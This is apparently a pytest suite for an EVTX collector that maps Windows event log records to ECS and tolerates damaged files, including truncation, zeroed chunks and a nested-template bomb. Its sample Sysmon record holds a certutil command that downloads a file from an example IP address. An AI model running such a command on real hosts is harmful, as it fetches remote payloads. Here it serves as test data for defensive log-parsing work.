"""EVTX: records to ECS; and every kind of damage costs what is damaged and nothing else."""

import struct
from pathlib import Path

import orjson
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from collectors import evtx
from tests.evtx_writer import (
    CHUNK,
    FILE_HEADER,
    Element,
    Record,
    chunk,
    file_header,
    nested,
    raw_chunk,
    seal,
)
from tests.evtx_writer import evtx as written
from vonggac.event import Bad, Event, windows_id
from vonggac.ports import Head
from vonggac.testing import collector_contract, events_of, read_all, source_of, source_of_file

PROCESS = {
    "UtcTime": "2026-03-01 08:15:30.120",
    "ProcessId": "4242",
    "Image": r"C:\Windows\System32\certutil.exe",
    "CommandLine": "certutil -urlcache -f http://203.0.113.5/a.txt",
    "User": r"EXAMPLE\alice",
    "Hashes": "MD5=" + "AB" * 16 + ",IMPHASH=" + "0" * 32,
    "ParentProcessId": "612",
    "ParentImage": r"C:\Windows\explorer.exe",
    "ParentCommandLine": "explorer.exe",
}


def records(first: int, count: int) -> list[Record]:
    return [Record(number, data=PROCESS) for number in range(first, first + count)]


SAMPLE = written(records(1, 60), records(61, 60), records(121, 3), template=True)


def numbers(read: list[Event | Bad]) -> list[int]:
    return [int(one.doc["winlog"]["Event"]["System"]["EventRecordID"]) for one in read if isinstance(one, Event)]


def reasons(read: list[Event | Bad]) -> list[str]:
    return [f"{one.place}: {one.reason}" for one in read if isinstance(one, Bad)]


def test_the_contract() -> None:
    collector_contract(evtx, source_of(SAMPLE, "Sysmon.evtx"), namespaces=("winlog",))


def test_a_record_is_one_event_in_ecs() -> None:
    (event,) = events_of(evtx, source_of(written([Record(7, data=PROCESS)]), "Sysmon.evtx"))
    doc = event.doc
    assert doc["@timestamp"] == "2026-03-01T08:15:30.123456Z"
    assert doc["event"] == {
        "kind": "event",
        "module": "windows",
        "dataset": "windows.sysmon",
        "code": "1",
        "provider": "Microsoft-Windows-Sysmon",
        "action": "process-created",
        "category": ["process"],
    }
    assert doc["host"] == {"name": "ws01.example.com"}
    assert doc["log"] == {"level": "information", "file": {"path": "Sysmon.evtx"}, "offset": FILE_HEADER + 512}
    assert doc["process"] == {
        "executable": r"C:\Windows\System32\certutil.exe",
        "name": "certutil.exe",
        "command_line": "certutil -urlcache -f http://203.0.113.5/a.txt",
        "pid": 4242,
        "parent": {"executable": r"C:\Windows\explorer.exe", "command_line": "explorer.exe", "pid": 612},
    }
    assert doc["user"] == {"domain": "EXAMPLE", "name": "alice"}
    assert doc["file"] == {"hash": {"md5": "ab" * 16}}
    assert doc["winlog"]["Event"]["EventData"] == PROCESS


def test_the_id_is_of_what_the_record_says() -> None:
    (event,) = events_of(evtx, source_of(written([Record(7, data=PROCESS)])))
    at = 1772352930123  # 2026-03-01T08:15:30.123Z
    channel = "Microsoft-Windows-Sysmon/Operational"
    assert event.id == windows_id("ws01.example.com", channel, "Microsoft-Windows-Sysmon", 7, at)


def test_a_record_without_a_computer_is_identified_by_its_place() -> None:
    one, two = events_of(evtx, source_of(written([Record(1, computer=""), Record(2, computer="")])))
    assert one.id != two.id
    assert "host" not in one.doc


def test_the_record_is_spliced_in_as_the_parser_wrote_it() -> None:
    (event,) = events_of(evtx, source_of(written([Record(7, data={"Text": "Vọng Gác"})])))
    assert isinstance(event.raw, str)
    assert event.to_json().count(event.raw.encode()) == 1


def test_templates_and_plain_elements_give_the_same() -> None:
    plain = events_of(evtx, source_of(written(records(1, 5)), "a"))
    templates = events_of(evtx, source_of(written(records(1, 5), template=True), "a"))
    assert [one.id for one in plain] == [one.id for one in templates]
    assert [one.doc["winlog"] for one in plain] == [one.doc["winlog"] for one in templates]


def test_user_data_is_looked_at_and_its_channel_is_not_the_events() -> None:
    cleared = Element(
        "LogFileCleared", {}, (Element("SubjectUserName", {}, ("mallory",)), Element("Channel", {}, ("X",)))
    )
    record = Record(1, 104, "Microsoft-Windows-Eventlog", "System", user_data=cleared)
    (event,) = events_of(evtx, source_of(written([record])))
    assert event.doc["event"]["dataset"] == "windows.system"
    assert event.doc["event"]["action"] == "event-log-cleared"
    assert event.doc["user"] == {"name": "mallory"}


@pytest.mark.parametrize(
    ("head", "score"),
    [(SAMPLE, 100), (b"\0" * 8 + SAMPLE[8:], 95), (b"{}", 0), (b"PK\x03\x04", 0)],
    ids=["file", "header gone", "JSON", "zip"],
)
def test_claims(head: bytes, score: int) -> None:
    assert evtx.claims(Head("x", head[: 64 << 10])) == score


# ------------------------------------------------------------------- damage


def damaged(*changes: tuple[int, bytes]) -> list[Event | Bad]:
    data = bytearray(SAMPLE)
    for offset, content in changes:
        data[offset : offset + len(content)] = content
    return read_all(evtx, source_of(bytes(data)))


def in_chunk(number: int, offset: int) -> int:
    return FILE_HEADER + (number - 1) * CHUNK + offset


def record_offset(data: bytes, number: int) -> int:
    """Find a record of the first chunk."""
    at = FILE_HEADER + 512
    for _ in range(number - 1):
        at += struct.unpack_from("<I", data, at + 4)[0]
    return at


def test_a_lost_file_header_costs_nothing() -> None:
    read = damaged((0, bytes(128)))
    assert numbers(read) == list(range(1, 124))
    assert reasons(read) == ["file header: file header: magic is missing"]


def test_a_lost_chunk_header_is_named_and_the_records_are_read() -> None:
    read = damaged((in_chunk(2, 0), bytes(512)))
    assert numbers(read) == list(range(1, 124))
    assert reasons(read) == ["chunk 2: chunk header: magic is missing"]


def test_a_changed_record_is_named_and_read() -> None:
    place = SAMPLE.index("203.0.113.5".encode("utf-16-le"))
    read = damaged((place, "203.0.113.9".encode("utf-16-le")))
    assert numbers(read) == list(range(1, 124))
    assert reasons(read) == ["chunk 1: checksum of the records is wrong"]


def test_a_lost_record_head_costs_that_record_alone() -> None:
    size = record_offset(SAMPLE, 6) - record_offset(SAMPLE, 5)
    read = damaged((record_offset(SAMPLE, 5), b"\xff" * 24))
    assert numbers(read) == [number for number in range(1, 124) if number != 5]
    assert reasons(read) == [
        "chunk 1: checksum of the records is wrong",
        "chunk 1: chunk header counts records 1 to 60, 59 are there",
        f"chunk 1: {size} bytes at {record_offset(SAMPLE, 5) - FILE_HEADER} are no record",
    ]


def test_a_record_of_no_size_does_not_end_the_chunk() -> None:
    read = damaged((record_offset(SAMPLE, 5) + 4, bytes(4)))
    assert numbers(read) == [number for number in range(1, 124) if number != 5]


def test_a_record_that_the_parser_refuses_is_named_with_its_number() -> None:
    data = bytearray(SAMPLE)
    data[record_offset(SAMPLE, 5) + 24 + 4] = 0x77  # no token of BinXml
    data[FILE_HEADER : FILE_HEADER + CHUNK] = seal(bytes(data[FILE_HEADER : FILE_HEADER + CHUNK]))
    read = read_all(evtx, source_of(bytes(data)))
    assert numbers(read) == [number for number in range(1, 124) if number != 5]
    assert [one.place for one in read if isinstance(one, Bad)] == ["chunk 1, record 5"]


def test_a_repeated_record_number_hides_nothing() -> None:
    """The parser stops where it sees the number of the chunk's last record."""
    data = bytearray(SAMPLE)
    struct.pack_into("<Q", data, record_offset(SAMPLE, 5) + 8, 60)
    data[FILE_HEADER : FILE_HEADER + CHUNK] = seal(bytes(data[FILE_HEADER : FILE_HEADER + CHUNK]))
    assert numbers(read_all(evtx, source_of(bytes(data)))) == list(range(1, 124))


def test_a_cut_file_is_named() -> None:
    cut = in_chunk(2, 30_000)
    read = read_all(evtx, source_of(SAMPLE[:cut]))
    assert numbers(read)[:60] == list(range(1, 61))
    assert 60 < len(numbers(read)) < 120
    assert reasons(read)[0] == "chunk 2: file ends inside the chunk: 30,000 of 65,536 bytes"
    assert reasons(read)[-1] == "chunk 3: file ends here, though its header counts 3"


def test_a_file_cut_between_chunks_is_named() -> None:
    assert reasons(read_all(evtx, source_of(SAMPLE[: in_chunk(3, 0)]))) == [
        "chunk 3: file ends here, though its header counts 3"
    ]


def test_a_chunk_of_zeros_inside_is_named_and_room_behind_is_not() -> None:
    read = damaged((in_chunk(2, 0), bytes(CHUNK)))
    assert reasons(read) == ["chunk 2: nothing but zeros"]
    assert reasons(read_all(evtx, source_of(SAMPLE + bytes(CHUNK * 3)))) == []


def test_a_log_that_was_copied_while_open_counts_its_chunks_wrong_and_that_is_right() -> None:
    live = file_header(1, dirty=True) + SAMPLE[FILE_HEADER:]
    read = read_all(evtx, source_of(live))
    assert numbers(read) == list(range(1, 124))
    assert reasons(read) == []


def test_rubbish_in_place_of_a_chunk_is_one_line() -> None:
    read = damaged((in_chunk(2, 0), b"rubbish " * (CHUNK // 8)))
    assert numbers(read) == [*range(1, 61), 121, 122, 123]
    assert reasons(read) == ["chunk 2: no chunk: neither its magic nor a record is there"]


def test_old_records_behind_the_last_are_not_the_logs() -> None:
    data = bytearray(chunk(records(1, 10)))
    free = record_offset(file_header(1) + bytes(data), 8) - FILE_HEADER
    struct.pack_into("<Q", data, 16, 7)
    struct.pack_into("<Q", data, 32, 7)
    struct.pack_into("<I", data, 48, free)
    read = read_all(evtx, source_of(file_header(1) + seal(bytes(data))))
    assert numbers(read) == list(range(1, 8))
    assert reasons(read) == []


def test_a_record_that_is_no_event_is_named() -> None:
    body = (
        b"\x0f\x01\x01\x00" + b"\x01" + struct.pack("<II", 0, 0x22F) + struct.pack("<IHH", 0, 0, 1) + b"a\0\0\0\x03\0"
    )
    read = read_all(evtx, source_of(file_header(1) + raw_chunk(body)))
    assert len(read) == 1
    assert reasons(read)[0].startswith("chunk 1, record 1: ")


def test_a_bomb_is_named_and_the_rest_is_read() -> None:
    """Three levels of a template that shows its value 60 times: 13 million times "boom" in 1,400 bytes."""
    read = read_all(evtx, source_of(file_header(4) + SAMPLE[FILE_HEADER:] + nested(3, 60)))
    assert numbers(read) == list(range(1, 124))
    assert len(reasons(read)) == 1
    assert reasons(read)[0].startswith("chunk 4, record 1: a bomb: ")


def test_a_resumed_reading_goes_on_inside_a_damaged_chunk() -> None:
    data = bytearray(SAMPLE)
    data[record_offset(SAMPLE, 5) : record_offset(SAMPLE, 5) + 24] = bytes(24)
    collector_contract(evtx, source_of(bytes(data)), namespaces=("winlog",))


@settings(max_examples=60, deadline=None)
@given(st.data())
def test_flipped_bits_raise_nothing(data: st.DataObject) -> None:
    content = bytearray(SAMPLE)
    for _ in range(data.draw(st.integers(1, 30))):
        content[data.draw(st.integers(0, len(content) - 1))] ^= 1 << data.draw(st.integers(0, 7))
    for one in read_all(evtx, source_of(bytes(content))):
        assert isinstance(one, Bad) or orjson.loads(one.to_json())


@settings(max_examples=60, deadline=None)
@given(st.binary(max_size=9000), st.booleans())
def test_arbitrary_bytes_raise_nothing(data: bytes, framed: bool) -> None:
    content = file_header(1) + raw_chunk(data[:8000]) if framed else b"ElfFile\0" + data
    for one in read_all(evtx, source_of(content)):
        assert isinstance(one, Bad) or orjson.loads(one.to_json())


# ---------------------------------------------------------------- real logs


@pytest.mark.data
def test_real_logs_are_read_whole(test_data: Path) -> None:
    files = sorted((test_data / "evtx").rglob("*.evtx"))
    assert files
    broken = [path for path in files if any(isinstance(one, Bad) for one in read_all(evtx, source_of_file(path)))]
    assert {path.parent.name for path in broken} <= {"parser-edge"}


@pytest.mark.data
@pytest.mark.parametrize(
    ("name", "events", "failures"),
    [
        # one record of 450 has size 0; those behind it are read
        ("sample-with-zero-data-size-event.evtx", 449, 3),
        # zeros from inside the 17th of 20 records on
        ("Microsoft-Windows-LanguagePackSetup%4Operational.evtx", 17, 2),
        ("issue_201.evtx", 1, 0),
        ("new-user-security.evtx", 4, 0),
    ],
)
def test_odd_files(test_data: Path, name: str, events: int, failures: int) -> None:
    read = read_all(evtx, source_of_file(test_data / "evtx" / "parser-edge" / name))
    assert (len(numbers(read)), len(reasons(read))) == (events, failures)


@pytest.mark.data
def test_a_record_as_the_parsers_authors_expect_it(test_data: Path) -> None:
    edge = test_data / "evtx" / "parser-edge"
    snap = (edge / "Security_with_size_t.evtx.expected" / "event_json_with_size_t.snap").read_text("utf-8")
    expected = orjson.loads(snap.split("---", 2)[2])
    read = events_of(evtx, source_of_file(edge / "Security_with_size_t.evtx"))
    same = [one for one in read if one.doc["winlog"]["Event"]["System"]["EventRecordID"] == 196]
    found = same[0].doc["winlog"]
    found["Event"]["System"]["Provider"]["#attributes"]["Guid"] = (
        "{54849625-5478-4994-a5ba-3e3b0328c30d}"  # without {} today
    )
    assert found["Event"]["System"] == expected["Event"]["System"]
    assert found["Event"]["EventData"].keys() == expected["Event"]["EventData"].keys()
